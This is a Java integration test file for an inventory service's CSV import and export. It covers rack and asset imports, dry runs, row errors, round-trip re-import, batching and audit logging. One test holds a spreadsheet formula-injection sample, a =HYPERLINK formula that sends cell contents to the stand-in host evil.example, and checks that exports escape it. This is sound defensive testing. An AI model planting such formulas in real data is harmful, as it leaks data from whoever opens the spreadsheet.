package io.infrasystem.inventory;

import static io.infrasystem.inventory.Api.ADMIN;
import static io.infrasystem.inventory.Api.EDITOR;
import static io.infrasystem.inventory.Api.VIEWER;
import static io.infrasystem.inventory.Api.as;
import static io.infrasystem.inventory.Api.editorWrites;
import static io.infrasystem.inventory.Api.unique;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItems;

import io.infrasystem.commons.testing.TestDatabase;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ValidatableResponse;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(TestDatabase.MariaDb.class)
class CsvImportExportTest {

    private static ValidatableResponse importCsv(String kind, String csv, boolean dryRun) {
        return importCsv(kind, csv.getBytes(StandardCharsets.UTF_8), dryRun, ADMIN);
    }

    private static ValidatableResponse importCsv(String kind, byte[] csv, boolean dryRun, String token) {
        return given().header("Authorization", token)
                .contentType("text/csv")
                .body(csv)
                .post("/api/inventory/import/" + kind + "?dry_run=" + dryRun)
                .then();
    }

    /** @return how many audit entries about assets there are */
    private static long assetAudits() {
        return as(ADMIN)
                .get("/api/inventory/audit?resource_type=asset")
                .then()
                .extract()
                .jsonPath()
                .getLong("count");
    }

    private static String siteName(long site) {
        return as(VIEWER).get("/api/inventory/sites/" + site).then().extract().path("name");
    }

    @Test
    void netboxRackExportIsRefusedNamingEachColumnTheInventoryLacks() throws IOException {
        byte[] netbox;
        try (InputStream in = getClass().getResourceAsStream("/csv/netbox_csv_import_racks.csv")) {
            netbox = in.readAllBytes();
        }
        importCsv("racks", netbox, false, ADMIN)
                .statusCode(400)
                .contentType("application/problem+json")
                .body("errors.field", hasItems("location", "group", "width", "weight", "max_weight", "weight_unit"))
                .body("errors.find { it.field == 'location' }.column", equalTo(2))
                .body("errors.find { it.field == 'location' }.line", equalTo(1));
        as(VIEWER).get("/api/inventory/racks?name=Rack 4").then().body("count", equalTo(0));
    }

    @Test
    void rackImportCreatesThenUpdatesByNameAndDryRunWritesNothing() {
        String site = siteName(Api.site());
        String a = unique("RA");
        String b = unique("RB");
        String csv = "site,name,status,u_height,desc_units\n" + site + "," + a + ",active,42,false\n" + site + "," + b
                + ",planned,24,true\n";
        importCsv("racks", csv, true)
                .statusCode(200)
                .body("dry_run", equalTo(true))
                .body("created", equalTo(2));
        as(VIEWER).get("/api/inventory/racks?name=" + a).then().body("count", equalTo(0));
        importCsv("racks", csv, false)
                .statusCode(200)
                .body("created", equalTo(2))
                .body("updated", equalTo(0));
        importCsv("racks", "site,name,u_height\n" + site + "," + b + ",48\n", false)
                .statusCode(200)
                .body("updated", equalTo(1));
        as(VIEWER)
                .get("/api/inventory/racks?name=" + b)
                .then()
                .body("results[0].u_height", equalTo(48))
                .body("results[0].status", equalTo("planned"))
                .body("results[0].desc_units", equalTo(true));
    }

    @Test
    void oneBadRowRefusesTheWholeFileListingLineColumnAndMessageOfEach() {
        long site = Api.site();
        long rack = Api.rack(site, 42);
        long model = Api.model(Api.manufacturer(), "2", true);
        String modelName = as(VIEWER)
                .get("/api/inventory/models/" + model)
                .then()
                .extract()
                .path("name");
        String t1 = unique("T");
        String csv = "asset_tag,model_id,status,rack_id,position,face\n"
                + t1 + "," + model + ",active," + rack + ",10,front\n"
                + unique("T") + "," + model + ",lost,,,\n"
                + unique("T") + ",999999,active,,,\n"
                + unique("T") + "," + model + ",active," + rack + ",11,rear\n"
                + unique("T") + "," + model + ",active," + rack + ",41.5,front\n";
        importCsv("assets", csv, false)
                .statusCode(400)
                .body("errors.line", org.hamcrest.Matchers.contains(3, 4, 5, 6))
                .body("errors[0].column", equalTo(3))
                .body("errors[0].field", equalTo("status"))
                .body("errors[1].field", equalTo("model_id"))
                .body("errors[1].message", containsString("999999"))
                .body("errors[2].message", containsString(t1))
                .body("errors[3].field", equalTo("position"));
        as(VIEWER).get("/api/inventory/assets?asset_tag=" + t1).then().body("count", equalTo(0));
        assertThat(modelName).isNotBlank();
    }

    @Test
    void malformedFilesAreRefusedWithTheirLine() {
        importCsv("assets", "hostname,model\n\"unterminated,x\nnext,y\n", false)
                .statusCode(400)
                .body("errors[0].message", containsString("quoting"));
        importCsv("assets", "hostname,model\na,b,c\n", false)
                .statusCode(400)
                .body("errors[0].line", equalTo(2))
                .body("errors[0].message", containsString("3 cells"));
        importCsv("assets", "hostname,model,hostname\n", false)
                .statusCode(400)
                .body("errors[0].message", containsString("twice"))
                .body("errors[0].column", equalTo(3));
        byte[] latin1 = "hostname,model,notes\nsrv,x,caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        importCsv("assets", latin1, false, ADMIN).statusCode(400).body("detail", containsString("UTF-8"));
        importCsv("gizmos", "a\n", false).statusCode(404);
        importCsv("assets", "hostname\n".getBytes(StandardCharsets.UTF_8), false, EDITOR)
                .statusCode(403);
    }

    @Test
    void assetRowsUpdateBySerialOrAssetTagAndNameRelationsByName() {
        long site = Api.site();
        String siteName = siteName(site);
        long rack = Api.rack(site, 42);
        String rackName =
                as(VIEWER).get("/api/inventory/racks/" + rack).then().extract().path("name");
        long maker = Api.manufacturer();
        String makerName = as(VIEWER)
                .get("/api/inventory/manufacturers/" + maker)
                .then()
                .extract()
                .path("name");
        long model = Api.model(maker, "1", true);
        String modelName = as(VIEWER)
                .get("/api/inventory/models/" + model)
                .then()
                .extract()
                .path("name");
        String serial = unique("SN");
        String tag = unique("AT");
        long bySerial = Api.asset(model, "\"serial\":\"" + serial + "\"");
        long byTag = Api.asset(model, "\"asset_tag\":\"" + tag + "\"");
        String csv = "serial,asset_tag,manufacturer,model,site,rack,position,face,tags,custom_fields\n"
                + serial + ",," + makerName + "," + modelName + "," + siteName + "," + rackName
                + ",5,front,\"a,b\",\"{\"\"x\"\":1}\"\n"
                + "," + tag + "," + makerName + "," + modelName + ",,,,,,\n";
        importCsv("assets", csv, false)
                .statusCode(200)
                .body("updated", equalTo(2))
                .body("created", equalTo(0));
        as(VIEWER)
                .get("/api/inventory/assets/" + bySerial)
                .then()
                .body("rack_id", equalTo((int) rack))
                .body("position", equalTo(5.0f))
                .body("tags", hasItems("a", "b"))
                .body("custom_fields.x", equalTo(1));
        as(VIEWER).get("/api/inventory/assets/" + byTag).then().body("tags.size()", equalTo(0));
    }

    @Test
    void exportReimportsToTheSameState() {
        long site = Api.site();
        long rack = Api.rack(site, 42);
        long maker = Api.manufacturer();
        long server = Api.model(maker, "2", true);
        long pdu = Api.model(maker, "0", false);
        long half = Api.model(maker, "0.5", false);
        Api.asset(
                server,
                "\"asset_tag\":\"" + unique("AT") + "\",\"serial\":\"" + unique("SN") + "\",\"rack_id\":" + rack
                        + ",\"position\":1,\"face\":\"front\",\"mgmt_ip\":\"10.1.1.1\",\"other_ips\":[\"10.1.1.2\",\"fe80::1\"],\"tags\":[\"prod\",\"db\"],\"custom_fields\":{\"cost_center\":\"IT,"
                        + " ops\",\"cores\":64,\"virtual\":false},\"purchase_date\":\"2023-02-01\",\"warranty_end\":\"2028-02-01\",\"owner\":\"DBA"
                        + " \\\"core\\\" team\",\"notes\":\"line one\\n"
                        + "line two\"");
        long moving = Api.asset(
                half, "\"rack_id\":" + rack + ",\"position\":10.5,\"face\":\"rear\",\"status\":\"maintenance\"");
        Api.asset(pdu, "\"rack_id\":" + rack);
        List<Map<String, Object>> before = as(VIEWER)
                .get("/api/inventory/assets?site_id=" + site)
                .then()
                .extract()
                .jsonPath()
                .getList("results");

        String csv = given().header("Authorization", VIEWER)
                .get("/api/inventory/assets/export.csv?site_id=" + site)
                .then()
                .statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("assets.csv"))
                .extract()
                .asString();
        assertThat(csv.lines().count()).isGreaterThanOrEqualTo(5);

        editorWrites(
                        "PATCH",
                        "/api/inventory/assets/" + before.get(0).get("id"),
                        "{\"hostname\":\"renamed\",\"tags\":[],\"custom_fields\":{}}")
                .statusCode(200);
        editorWrites(
                        "POST",
                        "/api/inventory/assets/" + moving + "/placement",
                        "{\"rack_id\":" + rack + ",\"position\":30,\"face\":\"front\"}")
                .statusCode(200);

        importCsv("assets", csv, false)
                .statusCode(200)
                .body("updated", equalTo(3))
                .body("created", equalTo(0));
        List<Map<String, Object>> after = as(VIEWER)
                .get("/api/inventory/assets?site_id=" + site)
                .then()
                .extract()
                .jsonPath()
                .getList("results");
        assertThat(after).hasSameSizeAs(before);
        for (int i = 0; i < before.size(); i++) {
            assertThat(strip(after.get(i))).isEqualTo(strip(before.get(i)));
        }
        // a second import of the same file changes nothing and records nothing
        long audits = assetAudits();
        importCsv("assets", csv, false).statusCode(200);
        assertThat(assetAudits()).isEqualTo(audits);
    }

    @Test
    void formulaLikeCellsAreEscapedInExportsAndRestoredExactlyOnImport() {
        long site = Api.site();
        long maker = Api.manufacturer();
        long model = Api.model(maker, "1", false);
        editorWrites("PATCH", "/api/inventory/models/" + model, "{\"end_of_support\":\"2070-01-01\"}")
                .statusCode(200);
        long asset = Api.asset(model, "\"site_id\":" + site);
        String hostile = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1)";
        editorWrites(
                        "PATCH",
                        "/api/inventory/assets/" + asset,
                        "{\"hostname\":\"" + hostile + "\",\"owner\":\"@SUM(1+1)\",\"notes\":\"'-already quoted\"}")
                .statusCode(200);
        Map<String, Object> before = as(VIEWER)
                .get("/api/inventory/assets/" + asset)
                .then()
                .extract()
                .jsonPath()
                .getMap("$");

        String csv = given().header("Authorization", VIEWER)
                .get("/api/inventory/assets/export.csv?site_id=" + site)
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(csv)
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"")
                .contains(",'@SUM(1+1),")
                .contains("''-already quoted")
                .doesNotContain(",=HYPERLINK")
                .doesNotContain(",@SUM");
        String eos = given().header("Authorization", VIEWER)
                .accept("text/csv")
                .get("/api/inventory/reports/eos?as_of=2071-01-01")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(eos).contains("'=HYPERLINK").doesNotContain(",=HYPERLINK");

        editorWrites("PATCH", "/api/inventory/assets/" + asset, "{\"hostname\":\"safe\",\"owner\":null,\"notes\":null}")
                .statusCode(200);
        importCsv("assets", csv, false).statusCode(200).body("updated", equalTo(1));
        Map<String, Object> after = as(VIEWER)
                .get("/api/inventory/assets/" + asset)
                .then()
                .extract()
                .jsonPath()
                .getMap("$");
        assertThat(after.get("hostname")).isEqualTo("=HYPERLINK(\"http://evil.example/?\"&A1)");
        assertThat(after.get("owner")).isEqualTo("@SUM(1+1)");
        assertThat(after.get("notes")).isEqualTo("'-already quoted");
        assertThat(strip(after)).isEqualTo(strip(before));
    }

    @Test
    void racksAndModelsExportWithFiltersAndReimport() {
        long site = Api.site();
        Api.rack(site, 42);
        long maker = Api.manufacturer();
        long model = Api.model(maker, "1.5", false);
        editorWrites(
                        "PATCH",
                        "/api/inventory/models/" + model,
                        "{\"end_of_support\":\"2029-12-31\",\"notes\":\"a, \\\"quoted\\\" note\"}")
                .statusCode(200);
        String racks = given().header("Authorization", VIEWER)
                .get("/api/inventory/racks/export.csv?site_id=" + site)
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(racks.lines().toList()).hasSize(2);
        importCsv("racks", racks, false).statusCode(200).body("updated", equalTo(1));
        String models = given().header("Authorization", VIEWER)
                .get("/api/inventory/models/export.csv?manufacturer_id=" + maker)
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(models).contains("2029-12-31").contains("1.5");
        Map<String, Object> before = as(VIEWER)
                .get("/api/inventory/models/" + model)
                .then()
                .extract()
                .jsonPath()
                .getMap("$");
        importCsv("models", models, false).statusCode(200).body("updated", equalTo(1));
        assertThat(as(VIEWER)
                        .get("/api/inventory/models/" + model)
                        .then()
                        .extract()
                        .jsonPath()
                        .getMap("$"))
                .isEqualTo(before);
        given().header("Authorization", VIEWER)
                .get("/api/inventory/models/export.csv?colour=red")
                .then()
                .statusCode(400);
    }

    @Test
    void largeFilesAreImportedInBatchesAndABadRowLateInTheFileStillRefusesAll() {
        long model = Api.model(Api.manufacturer(), "1", true);
        String prefix = unique("B");
        StringBuilder csv = new StringBuilder("asset_tag,model_id,status\n");
        for (int i = 0; i < 450; i++) {
            csv.append(prefix)
                    .append('-')
                    .append(i)
                    .append(',')
                    .append(model)
                    .append(i == 399 ? ",lost\n" : ",active\n");
        }
        importCsv("assets", csv.toString(), false)
                .statusCode(400)
                .body("errors.size()", equalTo(1))
                .body("errors[0].line", equalTo(401))
                .body("errors[0].field", equalTo("status"));
        as(VIEWER).get("/api/inventory/assets?asset_tag__isw=" + prefix).then().body("count", equalTo(0));
        importCsv("assets", csv.toString().replace(",lost", ",active"), false)
                .statusCode(200)
                .body("created", equalTo(450));
        as(VIEWER).get("/api/inventory/assets?asset_tag__isw=" + prefix).then().body("count", equalTo(450));
    }

    @Test
    void anImportOfSeveralInsertChunksGivesEachRowItsOwnIdTagsAndAuditEntry() {
        long model = Api.model(Api.manufacturer(), "1", true);
        String prefix = unique("C");
        int rows = 1_203; // two multi-row inserts of 500 and one of 203
        StringBuilder csv = new StringBuilder("hostname,asset_tag,model_id,tags\n");
        for (int i = 0; i < rows; i++) {
            csv.append(prefix + "-host-" + i).append(',').append(String.format("%s-%04d", prefix, i));
            csv.append(',').append(model).append(",t").append(i).append('\n');
        }
        long audits = assetAudits();
        importCsv("assets", csv.toString(), false).statusCode(200).body("created", equalTo(rows));
        assertThat(assetAudits()).isEqualTo(audits + rows);
        for (int i : new int[] {0, 499, 500, 999, 1000, rows - 1}) {
            String tag = String.format("%s-%04d", prefix, i);
            Map<String, Object> asset = as(VIEWER)
                    .get("/api/inventory/assets?asset_tag=" + tag)
                    .then()
                    .body("count", equalTo(1))
                    .extract()
                    .jsonPath()
                    .getMap("results[0]");
            assertThat(asset.get("hostname")).isEqualTo(prefix + "-host-" + i);
            assertThat(asset.get("tags")).isEqualTo(List.of("t" + i));
            as(ADMIN)
                    .get("/api/inventory/audit?resource_type=asset&resource_id=" + asset.get("id"))
                    .then()
                    .body("count", equalTo(1))
                    .body("results[0].action", equalTo("created"))
                    .body("results[0].after.asset_tag", equalTo(tag))
                    .body("results[0].after.tags", equalTo(List.of("t" + i)));
        }
    }

    @Test
    void duplicateTagsAndSerialsInTheFileOrAgainstStoredAssetsAreRowErrorsAndNothingIsWritten() {
        long model = Api.model(Api.manufacturer(), "1", true);
        String heldSerial = unique("SN");
        long held = Api.asset(model, "\"serial\":\"" + heldSerial + "\",\"asset_tag\":\"" + unique("AT") + "\"");
        long other = Api.asset(model, "\"asset_tag\":\"" + unique("AT") + "\"");
        String tag = unique("AT");
        String serial = unique("SN");
        String csv = "id,asset_tag,serial,model_id\n"
                + "," + tag + ",," + model + "\n"
                + "," + tag + ",," + model + "\n"
                + other + ",," + heldSerial + "," + model + "\n"
                + ",," + serial + "," + model + "\n"
                + ",," + serial + "," + model + "\n";
        importCsv("assets", csv, false)
                .statusCode(400)
                .contentType("application/problem+json")
                .body("errors.line", org.hamcrest.Matchers.contains(3, 4, 6))
                .body("errors[0].field", equalTo("asset_tag"))
                .body("errors[0].column", equalTo(2))
                .body("errors[0].message", containsString("line 2"))
                .body("errors[1].field", equalTo("serial"))
                .body("errors[1].message", containsString("asset " + held))
                .body("errors[2].field", equalTo("serial"))
                .body("errors[2].message", containsString("line 5"));
        as(VIEWER).get("/api/inventory/assets?asset_tag=" + tag).then().body("count", equalTo(0));
        as(VIEWER).get("/api/inventory/assets?serial=" + serial).then().body("count", equalTo(0));
        as(VIEWER).get("/api/inventory/assets/" + other).then().body("serial", org.hamcrest.Matchers.nullValue());
    }

    @Test
    void everyAssetTheBulkImportWritesGetsItsAuditEntryAndDryRunWritesNone() {
        long model = Api.model(Api.manufacturer(), "1", true);
        long other = Api.asset(model, "\"asset_tag\":\"" + unique("AT") + "\"");
        String prefix = unique("AU");
        String csv = "id,hostname,asset_tag,model_id,tags\n"
                + "," + prefix + "-1," + prefix + "-1," + model + ",\"x,y\"\n"
                + "," + prefix + "-2," + prefix + "-2," + model + ",\n"
                + other + "," + prefix + "-renamed,," + model + ",z\n";
        long audits = assetAudits();
        importCsv("assets", csv, true)
                .statusCode(200)
                .body("created", equalTo(2))
                .body("updated", equalTo(1));
        as(VIEWER).get("/api/inventory/assets?asset_tag__isw=" + prefix).then().body("count", equalTo(0));
        assertThat(assetAudits()).isEqualTo(audits);

        importCsv("assets", csv, false)
                .statusCode(200)
                .body("created", equalTo(2))
                .body("updated", equalTo(1));
        assertThat(assetAudits()).isEqualTo(audits + 3);
        List<Map<String, Object>> created = as(VIEWER)
                .get("/api/inventory/assets?asset_tag__isw=" + prefix + "&ordering=asset_tag")
                .then()
                .extract()
                .jsonPath()
                .getList("results");
        assertThat(created).hasSize(2);
        assertThat(created.get(0).get("tags")).isEqualTo(List.of("x", "y"));
        assertThat(created.get(0).get("version")).isEqualTo(0);
        as(ADMIN)
                .get("/api/inventory/audit?resource_type=asset&resource_id="
                        + created.get(1).get("id"))
                .then()
                .body("count", equalTo(1))
                .body("results[0].action", equalTo("created"));
        as(ADMIN)
                .get("/api/inventory/audit?resource_type=asset&resource_id=" + other + "&action=updated")
                .then()
                .body("count", equalTo(1));
        as(VIEWER)
                .get("/api/inventory/assets/" + other)
                .then()
                .body("hostname", equalTo(prefix + "-renamed"))
                .body("tags", equalTo(List.of("z")))
                .body("version", equalTo(1));
    }

    private static Map<String, Object> strip(Map<String, Object> asset) {
        Map<String, Object> copy = new java.util.TreeMap<>(asset);
        copy.remove("version");
        copy.remove("updated_at");
        return copy;
    }
}
